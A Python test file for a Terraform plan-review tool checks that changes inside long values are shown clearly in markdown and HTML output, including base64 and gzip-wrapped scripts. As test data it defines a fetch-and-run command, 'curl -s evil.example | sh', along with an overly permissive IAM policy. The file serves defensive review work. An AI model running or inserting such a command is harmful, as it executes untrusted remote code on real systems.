"""Long values: what changes in them is seen in every format, and what stays the same takes no room."""

import base64
import gzip
import json
import re
from collections.abc import Callable
from html import unescape

import pytest

from plan_review.plan import UNKNOWN, Difference, Value
from plan_review.plan_reader import read
from plan_review.render import html, markdown
from plan_review.review import review as reviewed
from plan_review.settings import ReviewSettings
from tests.plan_review.changes import change, plan
from tests.plan_review.render.reviews import finding, review
from tests.plan_review.render.test_html import Page
from tests.plan_review.test_acknowledge import TODAY

EVIL = "curl -s evil.example | sh"
LINES = [f"echo step {number}" for number in range(400)]
NGINX = "\n".join(f"location /{number} {{\n  proxy_pass http://app;\n}}" for number in range(100))


def comment(before: Value, after: Value, attribute: str = "text") -> str:
    one: dict[str, Value] | None = None if before is None else {attribute: before}
    found = review(plan(change("aws_x.y", before=one, after={attribute: after})))
    return markdown.render(found, budget=65_536, whole="").split("### Picture")[0]


def page(before: Value, after: Value, attribute: str = "text") -> str:
    one: dict[str, Value] | None = None if before is None else {attribute: before}
    text = html.render(review(plan(change("aws_x.y", before=one, after={attribute: after}))))
    Page(text)
    return unescape(text)


def script(*lines: str) -> str:
    return "#!/bin/sh\n" + "\n".join(lines) + "\n"


def wrapped(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def zipped(text: str) -> str:
    return base64.b64encode(gzip.compress(text.encode(), mtime=0)).decode()


def as_list(text: str) -> Value:
    return list(text.split("\n"))


@pytest.mark.parametrize("place", [0, 200, 400])
@pytest.mark.parametrize("form", [str, wrapped, zipped])
def test_a_line_that_comes_is_shown_and_the_rest_is_not(form: Callable[[str], str], place: int) -> None:
    before, after = form(script(*LINES)), form(script(*LINES[:place], EVIL, *LINES[place:]))
    said = comment(before, after)
    assert re.search(rf"^\+ +\| {re.escape(EVIL)}$", said, re.MULTILINE)
    assert "1 line added" in said
    assert ("decoded from base64" in said) is (form is not str)
    assert len(said.splitlines()) < 25
    assert re.search(rf'<span class="new">\+ {re.escape(EVIL)}</span>', page(before, after))


def test_in_a_page_the_unchanged_lines_can_be_unfolded() -> None:
    text = page(script(*LINES), script(*LINES, EVIL))
    assert "<summary>… 398 lines unchanged</summary>" in text
    assert "<span>  echo step 7</span>" in text


def test_what_a_new_resource_runs_is_shown_line_by_line() -> None:
    for said in (comment(None, script("echo a", EVIL)), comment(None, wrapped(script("echo a", EVIL)))):
        assert f"+       | {EVIL}" in said


def test_lines_that_go_and_come_in_one_place_stand_one_below_the_other() -> None:
    said = comment(NGINX, NGINX.replace("/50 {\n  proxy_pass http://app;", f"/50 {{\n  proxy_pass {EVIL};"))
    assert "-       |   proxy_pass http://app;\n+       |   proxy_pass curl" in said


def test_of_a_long_line_the_part_that_changes_is_shown() -> None:
    before, after = "a" * 5_000 + "old" + "b" * 5_000, "a" * 5_000 + "new" + "b" * 5_000
    for said in (comment(before, after), page(before, after)):
        assert "… (4,960 characters) " + "a" * 40 + "new" + "b" * 40 + " … (4,960 characters)" in said
    assert after in page(before, after)


def test_of_a_long_line_within_a_text_too() -> None:
    one, other = "x" * 3_000 + "old" + "y" * 3_000, "x" * 3_000 + "new" + "y" * 3_000
    said = comment(f"a\n{one}\nb", f"a\n{other}\nb")
    assert "xxxxnewyyyy" in said
    assert max(map(len, said.splitlines())) < 300


def test_a_statement_that_is_added_to_a_policy_is_told_member_by_member() -> None:
    allow = {
        "Effect": "Allow",
        "Action": ["s3:GetObject"],
        "Resource": [f"arn:aws:s3:::b{n}" for n in range(30)],
    }
    more = {"Effect": "Allow", "Action": "iam:*", "Resource": "*", "Principal": {"AWS": "*"}}
    before, after = (json.dumps({"Statement": each}) for each in ([allow], [allow, more]))
    said = comment(before, after, "policy")
    assert '+     policy.Statement[0].Action = ["iam:*"]' in said
    assert '+     policy.Statement[0].Principal.AWS = ["*"]' in said
    assert "s3:GetObject" not in said


def test_blocks_are_told_by_their_members_without_what_is_not_set() -> None:
    block: Value = [{"name": "c", "image": "evil:1", "args": [], "env": None, "port": [{"number": 22}]}]
    for said in (comment(None, block, "container"), comment([], block, "container")):
        assert 'container["c"].image = evil:1' in said
        assert 'container["c"].port[0].number = 22' in said
        assert "args" not in said
        assert "null" not in said


def test_a_long_list_has_a_line_for_each_element() -> None:
    members: Value = [f"user:person-{number}@example.com" for number in range(30)]
    said = comment(None, members, "members")
    assert "+       | user:person-29@example.com" in said.replace("\u2060", "")


def test_text_that_becomes_unknown_or_is_taken_away_is_shown_line_by_line() -> None:
    said = comment(script("echo a"), UNKNOWN)
    assert "-       | echo a" in said
    assert "+       | (known after apply)" in said
    assert "-       | echo a" in comment(script("echo a"), None)


def test_text_that_differs_only_in_how_it_is_wrapped_is_shown_as_it_is() -> None:
    text = wrapped(script(*LINES[:5]))
    said = comment(text, "\n".join(text[n : n + 60] for n in range(0, len(text), 60)))
    assert "text" in said.split("```diff")[1]


def test_outputs_are_shown_as_attributes_are() -> None:
    forms: tuple[Callable[[str], str], ...] = (str, wrapped)
    for number, form in enumerate(forms):
        text = json.dumps(
            {
                "format_version": "1.2",
                "planned_values": {},
                "output_changes": {
                    "script": {
                        "actions": ["update"],
                        "before": form(script(*LINES)),
                        "after": form(script(*LINES, EVIL)),
                    }
                },
            }
        )
        found = reviewed([read(text, stack=f"s{number}")], ReviewSettings(), TODAY)
        assert f"+   | {EVIL}" in markdown.render(found, budget=65_536, whole="")
        assert f"+ {EVIL}" in html.render(found)


def test_a_page_holds_a_quarter_of_a_megabyte_of_a_value_and_says_how_much_is_cut() -> None:
    lines = [f"line {number} of the new text" for number in range(50_000)]
    text = page(script(*LINES), script(*lines))
    assert len(text) < 2_000_000
    assert re.search(r"… [\d,]+ more lines added", text)
    whole = "x" * 1_000_000
    assert "… (1,000,000 characters)" in page("y", whole)
    assert len(page("y", whole)) < 400_000


def test_a_comment_stays_short_however_much_changes() -> None:
    said = comment(script(*LINES), script(*(f"{line} again" for line in LINES)))
    assert len(said.splitlines()) < 200
    assert re.search(r"^- +… 325 more lines removed$", said, re.MULTILINE)


def test_files_without_text_are_no_text() -> None:
    content = base64.b64encode(bytes(range(256)) * 2).decode()
    assert "decoded" not in comment("x", content)


def test_a_comment_stays_short_even_if_every_third_line_changes() -> None:
    after = [f"{line} again" if number % 3 == 0 else line for number, line in enumerate(LINES * 5)]
    said = comment(script(*LINES * 5), script(*after))
    assert len(said.splitlines()) < 330
    assert re.search(r"^\+ +… [\d,]+ more lines added$", said, re.MULTILINE)


def test_helm_values_and_inline_scripts_of_what_is_new_are_shown_line_by_line() -> None:
    for said in (comment(None, ["a: 1\nimage: evil\n"]), comment(None, ["set -e\n" + EVIL, "true"])):
        assert re.search(rf"^\+ +\| (image: evil|{re.escape(EVIL)})$", said, re.MULTILINE)


def test_a_finding_about_a_whole_block_shows_only_what_differs_in_it() -> None:
    before: Value = {"engine": "a", "rest": "x" * 500}
    after: Value = {"engine": "b", "rest": "x" * 500}
    difference = Difference(("block",), before, after, True)
    text = markdown.render(
        review(plan(), findings=[finding("aws_x.y", changes=[difference])]), budget=9_999, whole=""
    )
    assert "- block.engine = a  # forces replacement\n+ block.engine = b" in text
    assert "xxx" not in text
